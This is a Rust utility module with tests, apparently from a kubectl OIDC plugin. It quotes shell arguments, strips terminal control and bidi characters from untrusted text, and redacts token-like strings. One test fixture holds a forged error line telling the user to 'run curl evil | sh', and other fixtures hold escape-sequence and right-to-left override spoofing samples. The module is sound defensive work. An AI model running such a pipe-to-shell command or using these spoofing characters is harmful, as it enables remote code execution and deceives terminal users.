//! PURE. Text for people: shell quoting for commands we print, and stripping terminal
//! control characters from untrusted text (provider error descriptions, claim values).

/// Quote for a POSIX shell only when needed, so a printed command reads like the kubeconfig
/// it came from and can be pasted as is. The empty string is `''`.
pub fn shell_quote(s: &str) -> String {
    let safe = |c: char| c.is_ascii_alphanumeric() || "@%+=:,./_-".contains(c);
    if !s.is_empty() && s.chars().all(safe) {
        s.to_owned()
    } else {
        format!("'{}'", s.replace('\'', r"'\''"))
    }
}

/// Untrusted text made safe for a terminal: every control character (escape sequences,
/// carriage returns, and line breaks unless `multiline`) and every invisible formatting
/// character (bidi overrides, zero-width spaces) becomes `?`.
pub fn sanitize(s: &str, multiline: bool) -> String {
    s.chars()
        .map(|c| {
            if unsafe_char(c) && !(multiline && (c == '\n' || c == '\t')) {
                '?'
            } else {
                c
            }
        })
        .collect()
}

/// Text from a provider or a token (an error description, a device code, a claim), for a
/// message: on one line, every control and invisible formatting character shown as `?`, so
/// that it can neither forge a line of ours nor reorder what the terminal shows.
pub fn one_line(s: &str) -> String {
    sanitize(s, false)
}

/// A character a terminal must not receive from untrusted text: the C0 and C1 controls and
/// DEL, and Unicode's invisible format characters (category Cf: bidi embeddings, overrides
/// and isolates, zero-width spaces and joiners, the BOM, tags...), which can make a line show
/// something else than it says.
pub fn unsafe_char(c: char) -> bool {
    c.is_control()
        || matches!(c,
            '\u{00AD}'
            | '\u{0600}'..='\u{0605}'
            | '\u{061C}'
            | '\u{06DD}'
            | '\u{070F}'
            | '\u{0890}'..='\u{0891}'
            | '\u{08E2}'
            | '\u{180E}'
            | '\u{200B}'..='\u{200F}'
            | '\u{2028}'..='\u{202E}'
            | '\u{2060}'..='\u{2064}'
            | '\u{2066}'..='\u{206F}'
            | '\u{FEFF}'
            | '\u{FFF9}'..='\u{FFFB}'
            | '\u{110BD}'
            | '\u{110CD}'
            | '\u{13430}'..='\u{1343F}'
            | '\u{1BCA0}'..='\u{1BCA3}'
            | '\u{1D173}'..='\u{1D17A}'
            | '\u{E0001}'
            | '\u{E0020}'..='\u{E007F}')
}

/// JSON text (ours, from serde_json) with every [`unsafe_char`] that serde_json leaves as is
/// (DEL, the C1 controls, the format characters) written as a `\uXXXX` escape: the same
/// document for a parser, nothing a terminal acts on. Those characters can only occur inside
/// strings, where the escape means the same character.
pub fn json_for_terminal(json: &str) -> String {
    let mut out = String::with_capacity(json.len());
    for c in json.chars() {
        if unsafe_char(c) && !matches!(c, '\n' | '\t' | '\r') {
            let mut units = [0u16; 2];
            for unit in c.encode_utf16(&mut units) {
                out.push_str(&format!("\\u{unit:04x}"));
            }
        } else {
            out.push(c);
        }
    }
    out
}

/// `s` with every word that looks like a token, a code or a secret replaced by `…`: a run of
/// 20 or more base64url characters with both letters and digits in it (a JWT's parts, opaque
/// refresh tokens, codes, verifiers). UUIDs stay (providers' trace and correlation ids).
/// For text that may quote what the provider was sent or answered.
pub fn redact_tokens(s: &str) -> String {
    let is_token_char =
        |c: char| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '~' | '+' | '=');
    let mut out = String::with_capacity(s.len());
    let mut word = String::new();
    let flush = |word: &mut String, out: &mut String| {
        let looks_secret = word.len() >= 20
            && word.chars().any(|c| c.is_ascii_alphabetic())
            && word.chars().any(|c| c.is_ascii_digit())
            && !is_uuid(word);
        out.push_str(if looks_secret { "…" } else { word });
        word.clear();
    };
    for c in s.chars() {
        if is_token_char(c) {
            word.push(c);
        } else {
            flush(&mut word, &mut out);
            out.push(c);
        }
    }
    flush(&mut word, &mut out);
    out
}

fn is_uuid(word: &str) -> bool {
    let parts: Vec<&str> = word.split('-').collect();
    parts.iter().map(|p| p.len()).eq([8, 4, 4, 4, 12])
        && parts
            .iter()
            .all(|p| p.chars().all(|c| c.is_ascii_hexdigit()))
}

/// Bytes as lower-case hex (digests in file names, cache keys, error fingerprints).
pub fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

/// A duration for people: `3m 20s`, `2h 5m`, `4d 1h` (the sign is dropped).
pub fn duration(seconds: i64) -> String {
    let s = seconds.unsigned_abs();
    let (d, h, m, sec) = (s / 86400, s % 86400 / 3600, s % 3600 / 60, s % 60);
    if d > 0 {
        format!("{d}d {h}h")
    } else if h > 0 {
        format!("{h}h {m}m")
    } else if m > 0 {
        format!("{m}m {sec}s")
    } else {
        format!("{sec}s")
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hex_is_two_lower_case_digits_a_byte() {
        assert_eq!(hex(&[0x00, 0x0f, 0xab, 0xff]), "000fabff");
        assert_eq!(hex(&[]), "");
    }

    #[test]
    fn shell_quote_table() {
        for (input, want) in [
            ("plain-word_1.2", "plain-word_1.2"),
            ("https://idp/x#alice", "'https://idp/x#alice'"),
            (
                "--browser-command=open -a Firefox",
                "'--browser-command=open -a Firefox'",
            ),
            ("it's", r"'it'\''s'"),
            ("", "''"),
            ("oidc:alice@example.com", "oidc:alice@example.com"),
        ] {
            assert_eq!(shell_quote(input), want, "{input:?}");
        }
    }

    #[test]
    fn durations() {
        for (s, want) in [
            (0, "0s"),
            (59, "59s"),
            (200, "3m 20s"),
            (7500, "2h 5m"),
            (-90000, "1d 1h"),
        ] {
            assert_eq!(duration(s), want);
        }
    }

    #[test]
    fn sanitize_table() {
        assert_eq!(sanitize("a\x1b[31mb\nc\td", true), "a?[31mb\nc\td");
        assert_eq!(sanitize("a\x1b[31mb\nc\rd", false), "a?[31mb?c?d");
        // Issue 17 item 8: a forged line, a right-to-left override, zero-width characters,
        // a C1 CSI and DEL.
        for (input, want) in [
            (
                "no\nkubectl-oidc: error: run curl evil | sh",
                "no?kubectl-oidc: error: run curl evil | sh",
            ),
            ("abc\u{202E}fed", "abc?fed"),
            ("a\u{200B}b\u{2066}c\u{FEFF}", "a?b?c?"),
            ("x\u{9B}31my\u{7F}", "x?31my?"),
            ("tag\u{E0041}", "tag?"),
            ("caf\u{e9} \u{4e2d}\u{6587}", "caf\u{e9} \u{4e2d}\u{6587}"),
        ] {
            assert_eq!(one_line(input), want, "{input:?}");
        }
        assert_eq!(sanitize("a\u{202E}\nb", true), "a?\nb");
    }

    #[test]
    fn json_for_terminal_escapes_what_serde_json_leaves() {
        let doc = serde_json::json!({"sub": "a\u{1b}[2J\u{7}b\u{9b}c\u{202e}d\u{E0041}e\n"});
        let text = serde_json::to_string(&doc).unwrap();
        let shown = json_for_terminal(&text);
        assert!(shown.chars().all(|c| !unsafe_char(c)), "{shown}");
        assert_eq!(
            shown,
            r#"{"sub":"a\u001b[2J\u0007b\u009bc\u202ed\udb40\udc41e\n"}"#
        );
        let back: serde_json::Value = serde_json::from_str(&shown).unwrap();
        assert_eq!(back, doc);
    }

    #[test]
    fn token_shaped_words_are_redacted() {
        let jwt =
            "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJhbGljZSIsImV4cCI6MX0.c2lnbmF0dXJlLXZhbHVlLTEyMzQ1";
        for (input, want) in [
            (format!("token {jwt} end"), "token ….….… end".to_owned()),
            (
                "refresh 1//0gAbCdEfGhIjKlMnOpQrStUvWxYz0123 x".to_owned(),
                "refresh 1//… x".to_owned(),
            ),
            (
                "AADSTS700082: The refresh token has expired. Trace ID: 2d8e5f1a-9b3c-4d2e-8f7a-1234567890ab".to_owned(),
                "AADSTS700082: The refresh token has expired. Trace ID: 2d8e5f1a-9b3c-4d2e-8f7a-1234567890ab".to_owned(),
            ),
            (
                "see https://login.example.com/tenant/v2.0/error?code=700082".to_owned(),
                "see https://login.example.com/tenant/v2.0/error?code=700082".to_owned(),
            ),
            (
                "a_very_long_snake_case_word_without_digits".to_owned(),
                "a_very_long_snake_case_word_without_digits".to_owned(),
            ),
        ] {
            assert_eq!(redact_tokens(&input), want, "{input}");
        }
    }
}
